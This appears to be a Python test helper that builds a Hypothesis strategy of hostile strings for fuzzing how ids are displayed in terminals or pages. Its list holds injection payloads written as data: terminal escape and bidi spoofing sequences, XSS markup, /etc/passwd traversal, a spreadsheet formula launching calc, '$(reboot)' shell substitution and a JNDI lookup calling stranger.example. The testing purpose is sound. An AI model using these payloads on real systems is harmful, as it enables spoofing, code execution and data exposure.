"""Texts of strangers: what somebody would write into an id to act on a terminal or a page."""

from typing import Final

from hypothesis import strategies as st

FORGED: Final = "FORGED: all is well"
_TRICKS: Final = (
    f"\n{FORGED}",
    f"\r\n{FORGED}",
    f"\x1b[1A\r{FORGED}",
    f"\x85{FORGED}",
    f"\u2028{FORGED}",
    f"\x0b{FORGED}\x0c",
    "\x1b[2J\x1b[31m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://stranger.example\x1b\\here\x1b]8;;\x1b\\",
    "\x9b2J\x9d0;title\x9c",
    "\x08\x08\x08\x7f\0\t",
    "\u202egnp.exe\u202c\u2066x\u2069\u061c\u200f",
    "\u200b\u200d\u2060\ufeff\u00ad\U000e0041",
    "\ud800",
    "[bold red]x[/bold red][link=https://stranger.example]y[/link]",
    ":warning:",
    "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;",
    "--execute",
    "-rf",
    "../../../etc/passwd",
    "=1+1|'/C calc'!A0",
    "$(reboot) `reboot` ; reboot '\"",
    "%s %n {0} {__class__} ${jndi:ldap://stranger.example}",
)

words: Final = st.lists(st.sampled_from(_TRICKS) | st.text(max_size=8), min_size=1, max_size=3).map(
    "".join
)
"""Texts that are made of tricks, and of anything at all."""
